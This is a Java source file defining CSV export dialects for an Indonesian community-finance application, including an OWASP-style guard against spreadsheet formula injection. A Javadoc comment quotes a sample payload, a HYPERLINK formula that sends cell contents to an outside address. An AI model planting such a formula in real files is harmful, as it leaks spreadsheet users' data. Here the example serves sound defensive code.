package id.smartkampung.core.csv;

import static java.util.Objects.requireNonNull;

import id.smartkampung.core.money.Idr;
import java.math.BigDecimal;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import javax.money.MonetaryAmount;

/**
 * How a CSV table is spelled — <i>format berkas CSV</i>: the cell separator, the decimal separator
 * of numbers, and whether the file starts with a UTF-8 byte-order mark; and, for every dialect, the
 * one rule against formula injection ({@link #neutralise}).
 *
 * <ul>
 *   <li>{@link #PLAIN}: RFC 4180 as programs read it — {@code ,} between cells, numbers with a
 *       decimal point ({@code -2500.00}), no byte-order mark.
 *   <li>{@link #SPREADSHEET_ID}: what a spreadsheet set to Indonesian (Excel, LibreOffice Calc)
 *       opens with a double click and saves — {@code ;} between cells, numbers with a decimal comma
 *       ({@code -2500,00}), a UTF-8 byte-order mark so that names with non-ASCII letters are read as
 *       UTF-8. No thousands separator is written.
 * </ul>
 *
 * <p>Both quote a cell that holds the separator, a double quote, CR or LF (RFC 4180: in double
 * quotes, a double quote doubled) and end rows with CRLF.
 *
 * <p><b>Formula injection</b> (OWASP, "CSV Injection"): a spreadsheet runs a cell that begins with
 * {@code =}, {@code +}, {@code -} or {@code @} as a formula (tab and CR are also leading characters
 * some spreadsheets skip before such a sign), so a budget description or payee name such as
 * {@code =HYPERLINK("http://…/?leak="&A1,"Klik")} would run on the reader's machine. Every text cell
 * of every CSV export goes through {@link #neutralise}, which prefixes such a cell with a single
 * quote ({@code '}), OWASP's recommendation: the spreadsheet shows the text, it does not run it. <em>
 * Numbers are not text</em>: amounts and figures are written by {@link #amount} and {@link
 * #number} from exact values, so a negative amount stays the number {@code -2500.00} (or {@code
 * -2500,00}) a spreadsheet can add up — a number has no letters or operators to run. {@link
 * #restore} undoes {@link #neutralise} exactly, so a table written and read again gives back the
 * same text, including a text that itself begins with a quote.
 *
 * <p>Immutable and thread-safe.
 */
public enum CsvDialect {
  /** RFC 4180: {@code ,} separator, decimal point, no byte-order mark. */
  PLAIN(',', '.', false),
  /** A spreadsheet set to Indonesian: {@code ;} separator, decimal comma, UTF-8 byte-order mark. */
  SPREADSHEET_ID(';', ',', true);

  /** The UTF-8 byte-order mark, as the first character of a text. */
  public static final char BYTE_ORDER_MARK = '\uFEFF';

  private static final Pattern PLAIN_NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");
  private static final Pattern COMMA_NUMBER = Pattern.compile("-?[0-9]+(,[0-9]+)?");
  private static final Pattern GROUPED_COMMA_NUMBER = Pattern.compile("-?[0-9]{1,3}(\\.[0-9]{3})+(,[0-9]+)?");

  private final char separator;
  private final char decimalSeparator;
  private final boolean byteOrderMark;

  CsvDialect(char separator, char decimalSeparator, boolean byteOrderMark) {
    this.separator = separator;
    this.decimalSeparator = decimalSeparator;
    this.byteOrderMark = byteOrderMark;
  }

  /** The cell separator: {@code ,} or {@code ;}. */
  public char separator() {
    return separator;
  }

  /** The decimal separator of numbers: {@code .} or {@code ,}. */
  public char decimalSeparator() {
    return decimalSeparator;
  }

  /** Whether a file of this dialect starts with a UTF-8 byte-order mark. */
  public boolean byteOrderMark() {
    return byteOrderMark;
  }

  // ------------------------------------------------------------------------- formula injection

  /**
   * Whether a spreadsheet may take a cell that begins with {@code c} as a formula: {@code =},
   * {@code +}, {@code -}, {@code @}, tab or CR (OWASP).
   */
  public static boolean isFormulaStart(char c) {
    return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
  }

  /**
   * A text cell made safe to open in a spreadsheet: a text that begins with a formula start ({@link
   * #isFormulaStart}) gets a leading single quote, so it is shown, never run. A text that begins
   * with a quote followed by a formula start or another quote gets one too, so that {@link #restore}
   * is its exact inverse. Any other text is returned unchanged.
   *
   * @param text a text cell (never a number: numbers are written by {@link #number}); never null
   * @return never null; never begins with a formula start
   */
  public static String neutralise(String text) {
    requireNonNull(text, "text");
    return needsQuote(text) ? "'" + text : text;
  }

  /**
   * The text of a cell written by {@link #neutralise}: one leading quote is removed when a formula
   * start or another quote follows it; any other cell is returned unchanged (a quote before
   * ordinary text, {@code 'Pak RT}, is part of the text).
   *
   * @param cell a text cell as read; never null
   */
  public static String restore(String cell) {
    requireNonNull(cell, "cell");
    if (cell.length() >= 2 && cell.charAt(0) == '\'' && (isFormulaStart(cell.charAt(1)) || cell.charAt(1) == '\'')) {
      return cell.substring(1);
    }
    return cell;
  }

  private static boolean needsQuote(String text) {
    if (text.isEmpty()) {
      return false;
    }
    char c = text.charAt(0);
    return isFormulaStart(c) || (c == '\'' && text.length() >= 2 && (isFormulaStart(text.charAt(1)) || text.charAt(1) == '\''));
  }

  // ------------------------------------------------------------------------------------ writing

  /** A text cell: {@linkplain #neutralise neutralised}, then quoted if needed; never null. */
  public String text(String text) {
    return quote(neutralise(text));
  }

  /**
   * A number cell: the plain decimal (no exponent, no grouping) with this dialect's decimal
   * separator, e.g. {@code -2500.00} or {@code -2500,00}. Never neutralised: it is a number.
   */
  public String number(BigDecimal value) {
    String plain = value.toPlainString();
    return decimalSeparator == '.' ? plain : plain.replace('.', decimalSeparator);
  }

  /** An amount in rupiah with two decimals ({@link Idr#format}) as a {@link #number}. */
  public String amount(MonetaryAmount amount) {
    return number(new BigDecimal(Idr.format(amount)));
  }

  /** One row: the cells (already made by {@link #text}, {@link #number} or {@link #amount}) joined, with CRLF. */
  public String row(List<String> cells) {
    return String.join(String.valueOf(separator), cells) + "\r\n";
  }

  /** The start of a file: the byte-order mark when the dialect has one, else empty. */
  public String fileStart() {
    return byteOrderMark ? String.valueOf(BYTE_ORDER_MARK) : "";
  }

  private String quote(String s) {
    if (s.indexOf(separator) < 0 && s.indexOf('"') < 0 && s.indexOf('\n') < 0 && s.indexOf('\r') < 0) {
      return s;
    }
    return '"' + s.replace("\"", "\"\"") + '"';
  }

  // ------------------------------------------------------------------------------------ reading

  /**
   * The dialect of a table from its header line (a leading byte-order mark ignored): {@link
   * #SPREADSHEET_ID} when the line has a {@code ;} and no {@code ,}, else {@link #PLAIN}.
   */
  public static CsvDialect ofHeader(String headerLine) {
    requireNonNull(headerLine, "headerLine");
    return headerLine.indexOf(';') >= 0 && headerLine.indexOf(',') < 0 ? SPREADSHEET_ID : PLAIN;
  }

  /**
   * A number cell as a plain decimal with a point ({@code -2500.00}), ready for {@link
   * Idr#parseDecimal}; empty when the cell is not a number of this dialect. {@link #PLAIN}: digits
   * with an optional decimal point. {@link #SPREADSHEET_ID}: digits with an optional decimal comma
   * ({@code 52200000,00}), optionally grouped by thousands with points ({@code 52.200.000,00}, as a
   * spreadsheet saves a formatted cell); a decimal point without grouping ({@code 52200000.00}) is not
   * a number of this dialect.
   */
  public Optional<String> plainDecimal(String cell) {
    requireNonNull(cell, "cell");
    if (this == PLAIN) {
      return PLAIN_NUMBER.matcher(cell).matches() ? Optional.of(cell) : Optional.empty();
    }
    if (COMMA_NUMBER.matcher(cell).matches()) {
      return Optional.of(cell.replace(',', '.'));
    }
    if (GROUPED_COMMA_NUMBER.matcher(cell).matches()) {
      return Optional.of(cell.replace(".", "").replace(',', '.'));
    }
    return Optional.empty();
  }

  /** How a number is written in this dialect, for error messages: e.g. {@code 52200000,00}. */
  public String numberExample() {
    return number(new BigDecimal("52200000.00"));
  }

  /** A short description for messages: e.g. {@code ';'-separated with decimal comma}. */
  public String describe() {
    return "'" + separator + "'-separated with decimal " + (decimalSeparator == '.' ? "point" : "comma");
  }
}
